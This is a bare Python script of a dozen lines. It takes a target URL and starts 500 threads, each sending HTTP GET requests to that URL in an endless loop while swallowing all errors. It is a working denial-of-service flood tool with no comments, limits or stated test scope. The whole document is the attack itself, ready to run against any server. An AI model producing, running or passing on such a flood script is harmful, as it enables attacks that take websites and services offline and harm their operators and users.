import sys, threading, requests

target = sys.argv[1]

def hammer():
    while True:
        try:
            requests.get(target, timeout=2)
        except Exception:
            pass

for _ in range(500):
    threading.Thread(target=hammer, daemon=False).start()
